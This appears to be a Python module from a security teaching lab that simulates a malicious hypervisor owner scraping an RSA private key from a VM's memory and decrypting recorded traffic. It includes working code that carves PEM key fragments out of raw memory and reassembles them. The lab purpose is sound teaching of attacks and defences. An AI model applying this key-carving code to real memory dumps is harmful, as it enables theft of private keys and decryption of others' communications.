"""`memory-scrape`: Alice reads the private key out of an ordinary VM's memory, and decrypts her recording with it.

The VM's RAM is a file of hers: a guest's memory is the hypervisor's to read, unless hardware prevents it. She looks
for what a private key looks like in PEM (RFC 7468). It needs machines that have memory of their own, the `uml`
substrate; at a HyperSafe machine she is refused (emulated: see the refusal's own words).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from cryptography.exceptions import UnsupportedAlgorithm
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from trustlab.attacks.alice.tools import Alice
from trustlab.attacks.attack import Attack
from trustlab.capture.keys import PRIVATE_KEY
from trustlab.cloud.errors import CloudError, HypercallRefusedError

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from trustlab.cloud import Guest

ATTACK = Attack(
    name="memory-scrape",
    needs=("owns the host, and with it an ordinary VM's memory", "recorded the network"),
    steps=(
        "searches the memory of the bank's VM for what a private key looks like",
        "decrypts the recorded handshake, and with it the payment",
    ),
    breaks="confidentiality",
    why="A VM's memory lies in the memory of its host: whoever owns that, reads it.",
    source="Trusted Passages (2011)",
    stopped_by="HyperSafe, which shows its guest's memory to nobody; and a key that never was in the VM's memory",
)
ATTACKS = (ATTACK,)
BEGIN, END = b"-----BEGIN PRIVATE KEY-----\n", b"-----END PRIVATE KEY-----"
LENGTHS = (1703, 1699, 1707)
"""Octets of an RSA-2048 key in PEM, the last newline not counted; the second and third where a number is shorter."""
SLIP = 4
"""A page that follows by chance may begin with octets that PEM could go on with."""
BODY = re.compile(rb"-----BEGIN PRIVATE KEY-----\n(?:[A-Za-z0-9+/]{64}\n)*[A-Za-z0-9+/=]{0,64}")


def start(guest: Guest) -> None:
    """Wait: the network is recorded anyway."""
    Alice(guest, ATTACK).only_listen()


def afterwards(guest: Guest) -> None:
    """Search the bank's memory; with a key, everything recorded opens."""
    alice = Alice(guest, ATTACK)
    victim = alice.victim
    try:
        heads = alice.powers.search_memory(victim, BEGIN + b".{0,%d}" % max(LENGTHS))
        tails = alice.powers.search_memory(victim, END, before=max(LENGTHS))
    except HypercallRefusedError as refusal:
        alice.tell("refused", f"asks for the memory of {victim}'s VM and is refused: {refusal}")
        return
    except CloudError as error:
        alice.tell("nothing", f"cannot: {error}")
        return
    keys = private_keys(heads, tails)
    for der in keys:
        guest.party.secret(PRIVATE_KEY, der)
    if keys:
        alice.tell("scrape", f"finds a private key in the memory of {victim}'s VM and opens her recording with it.")
    else:
        alice.tell("nothing", f"finds no private key in the memory of {victim}'s VM.")


def private_keys(heads: Iterable[bytes], tails: Iterable[bytes]) -> list[bytes]:
    """Return the RSA private keys (PKCS #8, DER) that beginnings and endings in memory make, each once.

    A key may lie across two pages that are no neighbours, so every beginning is tried with every ending.
    """
    keys: list[bytes] = []
    endings = list(tails)
    for head in heads:
        for pem in _joined(head, endings):
            der = _der(pem)
            if der and der not in keys:
                keys.append(der)
            if der:
                break
    return keys


def _joined(head: bytes, tails: Iterable[bytes]) -> Iterator[bytes]:
    """Yield what one beginning could be, whole or with each ending."""
    whole, end, _ = head.partition(END)
    if end:
        yield whole + end
    body = BODY.match(head)
    known = len(body[0]) if body else 0
    for tail in tails:
        for length in LENGTHS:
            for cut in range(known, max(0, known - SLIP) - 1, -1):
                if 0 < length - cut <= len(tail):
                    yield head[:cut] + tail[-(length - cut) :]


def _der(pem: bytes) -> bytes:
    """Return an RSA key in DER, nothing where this is none."""
    try:
        key = serialization.load_pem_private_key(pem, None)
    except (ValueError, TypeError, UnsupportedAlgorithm):  # other things look like keys too
        return b""
    if not isinstance(key, rsa.RSAPrivateKey):
        return b""
    form = (serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    return key.private_bytes(*form)
